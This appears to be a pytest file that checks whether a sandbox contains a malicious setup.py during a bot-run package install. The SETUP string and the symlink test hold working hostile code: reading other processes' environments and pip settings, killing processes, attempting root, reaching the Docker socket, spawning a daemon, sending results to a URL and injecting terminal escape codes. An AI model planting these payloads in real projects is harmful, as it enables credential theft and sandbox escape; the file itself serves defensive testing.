"""Attacks by what runs while the project is installed, when the network is open."""

from __future__ import annotations

import json
import os
import socket
import tempfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest

from fakes.arena import PLANTED, Arena, marked
from fakes.packages import PackageIndex, shop_wheels

# Docker's root has fewer rights than root, and nothing here depends on the bot's.
pytestmark = [
    pytest.mark.slow,
    pytest.mark.parametrize("second_bot", ["root", "an ordinary user"], indirect=True, scope="session"),
    pytest.mark.usefixtures("connects"),
]

SHOP = {"shop/__init__.py": "from shop._version import version\n"}

ATTACKS = {
    "reads what is outside": "found.append(open(OUTSIDE + '/secret').read())",
    "lists what is outside": "found.append(repr(os.listdir(OUTSIDE)))",
    "writes to what is outside": "open(OUTSIDE + '/new', 'w').write('x')",
    "reads its own environment": "assert 'planted' in repr(dict(os.environ))",
    "reads the bot's environment": "found.append(open('/proc/%d/environ' % BOT).read())",
    "reads another's environment": "found.append(open('/proc/%d/environ' % VICTIM).read())",
    "stops another process": "os.kill(VICTIM, 19)",
    "ends the bot": "os.kill(BOT, 9)",
    "writes for other programs": "open('/tmp/left-by-setup', 'w').write('x')",
    "reads pip's settings": "found.append(open('/etc/pip.conf').read())",
    "becomes root": "os.setuid(0); os.setresuid(0, 0, 0)",
    "edits the bot": "open(BOTS_FILE, 'a').write('')",
    "speaks to Docker": "socket.socket(socket.AF_UNIX).connect(os.path.dirname(OUTSIDE) + '/docker.sock')",
    "listens to the network": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "looks for a terminal": "open('/dev/tty', 'w').write('x')",
}

SETUP = """
import os, socket, sys, time
OUTSIDE, VICTIM, BOT, BOTS_FILE = {outside!r}, {victim}, {bot}, {bots_file!r}
found = []
for name, attack in {attacks!r}.items():
    try:
        exec(attack)
        if name != "becomes root" or os.getuid() == 0:
            found.append("done: " + name)
    except Exception as error:
        found.append("held: " + name)
if os.fork() == 0:  # a daemon
    os.setsid()
    os.closerange(0, 100)
    if os.fork() == 0:
        while True:
            time.sleep(0.01)
    os._exit(0)
import json, urllib.parse, urllib.request
try:
    urllib.request.urlopen({results!r} + urllib.parse.quote(json.dumps(found)))
except OSError:
    pass
os.write(1, b"\\x1b]0;owned\\x07::set-output name=a::b\\n" * 1000)
raise SystemExit("\\x1b[2Jno such compiler")
"""


@pytest.fixture
def index() -> Iterator[PackageIndex]:
    with PackageIndex(shop_wheels()).serving() as served:
        yield served


@pytest.fixture
def scratch(arena: Arena) -> Path:
    """A scratch folder of the bot's."""
    folder = Path(tempfile.mkdtemp(prefix="scratch-", dir=arena.base))
    os.chown(folder, arena.bot.uid, arena.bot.uid)
    return folder


def install(arena: Arena, index: PackageIndex, scratch: Path, setup: str) -> dict[str, object]:
    """Have the bot install a project with a setup.py."""
    return arena.bot.ask(
        {
            "install": {**SHOP, "setup.py": setup},
            "sandbox": "strict",
            "scratch": str(scratch),
            "seconds": 60,
            "variables": {"PIP_INDEX_URL": f"http://user:{PLANTED}@{index.host}/simple/"},
        }
    )


def test_setup__what_attacks_is_held(arena: Arena, index: PackageIndex, scratch: Path) -> None:
    setup = SETUP.format(
        outside=str(arena.outside),
        victim=arena.victim,
        bot=arena.bot.pid,
        bots_file=__file__,
        attacks=ATTACKS,
        results=f"http://{index.host}/results/",
    )
    with socket.socket(socket.AF_UNIX) as docker:
        docker.bind(str(arena.base / "docker.sock"))
        docker.listen()
        os.chown(arena.base / "docker.sock", arena.bot.uid, arena.bot.uid)
        (arena.base / "docker.sock").chmod(0o660)
        told = install(arena, index, scratch, setup)
    results = [unquote(path) for path, _ in index.asked if path.startswith("/results/")]
    assert json.loads(results[0].removeprefix("/results/")) == [f"held: {name}" for name in ATTACKS]
    assert PLANTED not in repr(index.asked)
    assert told["notes"] == [
        "the project could not be installed, only what it needs: no such compiler",
        "installed without what may be private in PIP_INDEX_URL",
    ]
    assert [path.name for path in scratch.iterdir()] == ["installation"]
    assert {path.name for path in (scratch / "installation").iterdir()} == {"environment", "project"}
    assert not marked(str(scratch))
    assert arena.victim_is_well()


def test_setup__an_exchanged_environment_is_not_used(
    arena: Arena, index: PackageIndex, scratch: Path
) -> None:
    setup = """
import os
home = os.path.dirname(os.environ["UV_PROJECT_ENVIRONMENT"])
os.rename(home + "/environment", home + "/moved")
os.symlink("/", home + "/environment")
"""
    told = install(arena, index, scratch, setup)
    assert "has exchanged the environment" in str(told["error"])
